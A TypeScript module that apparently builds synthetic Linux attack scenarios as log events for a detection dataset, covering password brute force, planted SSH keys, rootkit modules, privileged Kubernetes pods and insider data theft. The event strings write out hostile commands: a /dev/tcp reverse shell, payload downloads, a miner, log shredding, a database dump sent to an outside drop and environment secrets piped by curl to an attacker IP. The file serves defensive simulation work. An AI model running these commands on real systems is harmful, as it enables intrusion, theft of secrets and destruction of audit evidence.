import { executed, kernel, kube, sshd, sshFailed, sshLogin, sudo, sudoDenied, syslog, systemd, cron,
  written } from "../emit/linux.ts";
import { traffic } from "../emit/network.ts";
import { shellUsers, unixName } from "../everyday/linux.ts";
import type { Server } from "../org/machines.ts";
import type { Person } from "../org/people.ts";
import { hostingSpot, homeLine } from "../org/places.ts";
import { server } from "../org/world.ts";
import type { Case, Kind } from "./case.ts";

const shellUser = (c: Case): [Person, string] => {
  const who = c.take((one) => shellUsers(c.w).includes(one));
  const user = unixName(who);
  c.about(user);
  return [who, user];
};

const bad = (c: Case): string => {
  const { ip } = hostingSpot(c.r);
  c.about(ip);
  return ip;
};

const app = (one: Server): boolean => one.role === "application server";

export const linuxKinds: Kind[] = [
  {
    kind: "password-guessed-on-server", area: "linux", difficulty: "obvious", times: 2, types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.environment === "staging" || one.name.startsWith("bastion"));
      c.at(c.r.int(0, 22));
      const ip = bad(c);
      for (let i = c.r.int(40, 70); i > 0; i--) sshFailed(c, c.step(0.02, 0.1), on,
        c.r.pick(["deploy", "ubuntu", "root"]), ip);
      c.core(sshLogin(c, c.step(0.1), on, c.r.pick(["deploy", "ubuntu"]), ip, { password: true }));
      c.core(executed(c, c.step(0.4, 1), on, "deploy", "/usr/bin/wget", ["-q", `http://${ip}/x.sh`, "-O", "/tmp/.x"]));
      return "After many failures a login by password succeeds from the same address, and a script is fetched.";
    },
  },
  {
    kind: "key-left-behind", area: "linux", difficulty: "context", types: ["account_compromise", "insider_threat"],
    run: (c) => {
      const [who, user] = shellUser(c);
      const on = c.takeServer((one) => one.role === "database" || app(one));
      c.working(who);
      c.core(written(c, c.t, on, user, `/home/${c.r.pick(["deploy", "ubuntu"])}/.ssh/authorized_keys`, "tee",
        "ssh_keys"));
      c.core(written(c, c.step(0.3, 1), on, user, "/root/.ssh/authorized_keys", "tee", "ssh_keys"));
      const ip = bad(c);
      c.step(300, 700);
      c.core(sshLogin(c, c.t, on, "root", ip));
      return "Keys are written for the accounts of the system; the same night root is entered from outside with one.";
    },
  },
  {
    kind: "shell-called-back-by-cron", area: "linux", difficulty: "obvious", types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.role === "web server" || app(one));
      const ip = bad(c);
      c.at(c.r.int(0, 20));
      for (let i = 0; i < 4; i++) {
        c.core(cron(c, c.step(10, 10.02), on, "www-data", `bash -i >& /dev/tcp/${ip}/4444 0>&1`));
        c.core(traffic(c, c.t + 700, { source: on.ip, destination: ip, port: 4444, app: "unknown-tcp",
          rule: "servers-egress", zones: ["servers", "untrust"] }));
      }
      return "Every ten minutes a job on a server opens a shell to a rented machine.";
    },
  },
  {
    kind: "application-account-becomes-root", area: "linux", difficulty: "context",
    types: ["privilege_escalation", "account_compromise"],
    run: (c) => {
      const on = c.takeServer(app);
      c.at(c.r.int(0, 22));
      sudoDenied(c, c.t, on, "svc-api", "/bin/bash");
      sudoDenied(c, c.step(0.2, 1), on, "svc-api", "/usr/bin/find . -exec /bin/sh");
      c.core(executed(c, c.step(0.5, 2), on, "svc-api", "/usr/bin/pkexec", ["--version", "GCONV_PATH=."], "priv_esc"));
      c.core(syslog(c, c.step(0.1), on, "authpriv", "notice", "su",
        "(to root) svc-api on pts/2"));
      c.core(executed(c, c.step(0.2), on, "root", "/usr/bin/cat", ["/etc/shadow"], "shadow"));
      return "The account of the application, which never uses a shell, tries to become root and succeeds.";
    },
  },
  {
    kind: "miner-on-build-host", area: "linux", difficulty: "obvious", types: ["account_compromise", "financial_fraud"],
    run: (c) => {
      const on = c.takeServer((one) => one.environment === "build");
      c.at(c.r.int(0, 22));
      const ip = bad(c);
      c.core(executed(c, c.t, on, "runner", "/usr/bin/curl", ["-sL", `http://${ip}/xm.tar.gz`, "-o", "/dev/shm/.k"]));
      c.core(executed(c, c.step(0.2, 1), on, "runner", "/dev/shm/kworkerd",
        ["-o", `stratum+tcp://${ip}:3333`, "--donate-level", "0"]));
      for (let i = 3; i > 0; i--) c.core(traffic(c, c.step(15, 30),
        { source: on.ip, destination: ip, port: 3333, app: "stratum-mining", rule: "servers-egress" }));
      kernel(c, c.step(5), on, "CPU7: Package temperature above threshold, cpu clock throttled");
      return "A build host fetches a miner, runs it under the name of a kernel thread and talks to a pool.";
    },
  },
  {
    kind: "audit-stopped-and-logs-wiped", area: "linux", difficulty: "obvious",
    types: ["sabotage", "account_compromise"],
    run: (c) => {
      const [who, user] = shellUser(c);
      const on = c.takeServer((one) => one.environment === "prod" && !one.name.startsWith("bastion"));
      c.local(who, c.r.pick([2, 23]));
      c.core(sudo(c, c.t, on, user, "/usr/bin/systemctl stop auditd"));
      c.core(systemd(c, c.t + 900, on, "Stopped Security Auditing Service."));
      c.core(sudo(c, c.step(1, 2), on, user, "/usr/bin/shred -u /var/log/auth.log /var/log/audit/audit.log"));
      c.core(sudo(c, c.step(0.3), on, user, "/usr/bin/truncate -s 0 /var/log/wtmp"));
      return "At night the recording on a server is stopped and its logs are shredded.";
    },
  },
  {
    kind: "module-loaded-into-kernel", area: "linux", difficulty: "context", types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.role === "cache" || one.role === "search engine"
        || one.role === "message broker");
      c.at(c.r.int(0, 22));
      c.core(executed(c, c.t, on, "root", "/usr/sbin/insmod", ["/tmp/.font-unix/nf_helper.ko"], "modules"));
      c.core(kernel(c, c.t + 400, on, "nf_helper: loading out-of-tree module taints kernel."));
      c.core(kernel(c, c.t + 500, on,
        "nf_helper: module verification failed: signature and/or required key missing - tainting kernel"));
      return "An unsigned module from a temporary folder is loaded into the kernel.";
    },
  },
  {
    kind: "one-key-many-servers", area: "linux", difficulty: "context", types: ["account_compromise"],
    run: (c) => {
      const source = c.takeServer((one) => app(one) || one.role === "web server");
      c.at(c.r.int(0, 20));
      const key = c.r.hex(43);
      for (const on of c.w.servers.filter((one) => one !== source && one.environment !== "corp")) {
        if (c.r.chance(0.35)) sshFailed(c, c.step(0.05, 0.2), on, "deploy", source.ip);
        else c.core(sshLogin(c, c.step(0.05, 0.2), on, "deploy", source.ip, { key }));
      }
      return "From an application server, which never opens sessions, the deployment account tries all other servers.";
    },
  },
  {
    kind: "database-dumped-and-sent", area: "linux", difficulty: "context",
    types: ["data_exfiltration", "insider_threat"],
    run: (c) => {
      const [who, user] = shellUser(c);
      const on = c.takeServer((one) => one.role === "database");
      c.working(who);
      sshLogin(c, c.t, on, user, server(c.w, "bastion-01").ip);
      c.core(sudo(c, c.step(1, 3), on, user, "/usr/bin/pg_dump -t customers -t payment_methods tenants",
        { as: "postgres" }));
      c.core(executed(c, c.step(4, 9), on, user, "/usr/bin/curl",
        ["-T", "/tmp/t.sql.gz", `https://${c.r.hex(6)}.dropzone.example/`]));
      c.core(traffic(c, c.t + 1000, { source: on.ip, destination: bad(c), port: 443,
        sent: c.r.int(3, 9) * 1_000_000_000, received: 40_000,
        rule: "servers-egress", zones: ["servers", "untrust"] }));
      return "Two tables with customers and cards are dumped by hand at daytime and sent to an outside drop.";
    },
  },
  {
    kind: "privileged-pod", area: "linux", difficulty: "context", types: ["privilege_escalation", "account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.name.startsWith("k8s-ctl"));
      c.at(c.r.int(0, 22));
      const ip = bad(c);
      const account = "system:serviceaccount:prod:checkout-web";
      c.about(account);
      c.core(kube(c, c.t, on, account, "create", "pods", "kube-system", "node-debugger", ip,
        { requestObject: { spec: { hostPID: true,
        hostNetwork: true, containers: [{ securityContext: { privileged: true },
          volumeMounts: [{ mountPath: "/host" }] }] } } }));
      c.core(kube(c, c.step(0.5, 2), on, account, "create", "pods/exec", "kube-system", "node-debugger", ip));
      c.core(kube(c, c.step(1, 3), on, account, "list", "secrets", "kube-system", "", ip));
      return "The account of a small web application starts an all-powerful pod, enters it and lists the " +
        "secrets of the cluster.";
    },
  },
  {
    kind: "web-server-runs-commands", area: "linux", difficulty: "context", types: ["account_compromise"], times: 2,
    run: (c) => {
      const on = c.takeServer((one) => one.role === "web server");
      c.at(c.r.int(0, 22));
      const ip = bad(c);
      syslog(c, c.t, on, "local7", "info", "nginx",
        `${ip} - - "POST /uploads/img/thumb.php HTTP/1.1" 200 512 "-" "Mozilla/5.0"`);
      for (const [path, args] of [["/bin/sh", ["-c", "id; uname -a"]], ["/usr/bin/whoami", []],
        ["/usr/bin/cat", ["/etc/passwd"]],
        ["/usr/bin/find", ["/", "-name", "*.env"]]] as [string, string[]][]) {
        c.core(executed(c, c.step(0.2, 1), on, "www-data", path, args));
      }
      return "Through a file in the upload folder the web server runs commands of a visitor.";
    },
  },
  {
    kind: "library-forced-into-programs", area: "linux", difficulty: "hard", types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.role === "message broker" || one.role === "cache"
        || one.role === "name server");
      c.at(c.r.int(0, 22));
      c.core(written(c, c.t, on, "root", "/etc/ld.so.preload", "cp", "preload"));
      return "A file that forces a library into every program appears on a server.";
    },
  },
  {
    kind: "second-root-account", area: "linux", difficulty: "obvious",
    types: ["privilege_escalation", "account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.environment === "prod" || one.environment === "corp");
      c.at(c.r.int(0, 22));
      c.core(syslog(c, c.t, on, "authpriv", "info", "useradd",
        "new user: name=sysd, UID=0, GID=0, home=/var/tmp, shell=/bin/bash, from=/dev/pts/2"));
      c.core(syslog(c, c.step(0.2), on, "authpriv", "notice", "passwd",
        "pam_unix(passwd:chauthtok): password changed for sysd"));
      c.core(sshLogin(c, c.step(1, 4), on, "sysd", bad(c), { password: true }));
      return "A second account with the number of root is made, and used from outside by password.";
    },
  },
  {
    kind: "all-repositories-cloned", area: "linux", difficulty: "context",
    types: ["data_exfiltration", "insider_threat"],
    run: (c) => {
      const who = c.take((one) => one.department === "Engineering");
      c.about(unixName(who));
      c.local(who, c.r.pick([6, 21]));
      const git = server(c.w, "git-01");
      for (const project of ["api", "web", "billing", "agent", "infra", "sdk-js", "sdk-go", "docs", "signing",
        "ml-core", "tenant-db", "secrets-ops",
        "mobile", "edge", "admin-ui", "pricing", "search", "ingest"]) {
        c.core(syslog(c, c.step(0.3, 1), git, "local0", "info", "gitlab-shell",
          JSON.stringify({ command: "git-upload-pack", gl_key_type: "key",
          gl_project_path: `core/${project}`, username: unixName(who), remote_ip: who.home.ip,
            msg: "executing git command" })));
      }
      return "Within minutes a developer clones every repository, also those of other teams.";
    },
  },
  {
    kind: "tunnel-kept-open", area: "linux", difficulty: "hard", days: 4, types: ["policy_violation", "insider_threat"],
    run: (c) => {
      const who = c.take((one) => one.contractor && one.department === "Site Reliability" || one.contractor);
      const user = unixName(who);
      c.about(user);
      const bastion = c.takeServer((one) => one.name.startsWith("bastion"));
      const target = homeLine(c.r, who.city).ip;
      c.about(target);
      for (let i = 0; i < 3; i++) {
        c.local(who, 18.5);
        c.core(executed(c, c.t, bastion, user, "/usr/bin/ssh", ["-N", "-R", "2222:10.60.20.10:5432", `t@${target}`]));
        c.core(traffic(c, c.step(1), { source: bastion.ip, destination: target, port: 443, app: "ssh",
          seconds: c.r.int(20_000, 40_000),
          sent: c.r.int(4, 20) * 1_000_000, received: 900_000, rule: "servers-egress",
            zones: ["servers", "untrust"] }));
        c.nextDays(1);
      }
      return "On several evenings a contractor leaves a reverse tunnel to the database open towards a home line.";
    },
  },
  {
    kind: "poisoned-package-on-build", area: "linux", difficulty: "context", types: ["account_compromise"],
    run: (c) => {
      const on = c.takeServer((one) => one.environment === "build");
      c.workday();
      c.at(9, 6);
      const ip = bad(c);
      c.core(executed(c, c.t, on, "runner", "/usr/bin/node", ["node_modules/colour-stringz/postinstall.js"]));
      c.core(executed(c, c.step(0.02, 0.1), on, "runner", "/usr/bin/sh",
        ["-c", `env | base64 | curl -sd @- http://${ip}/c`]));
      c.core(traffic(c, c.t + 200, { source: on.ip, destination: ip, port: 80, app: "web-browsing", sent: 18_000,
        received: 300, rule: "servers-egress" }));
      sshd(c, c.step(30, 90), on, `Connection from ${ip} port 51022 on ${on.ip} port 22 rdomain ""`);
      return "A package of similar name runs a script during a build, which sends the environment with its " +
        "secrets away.";
    },
  },
];
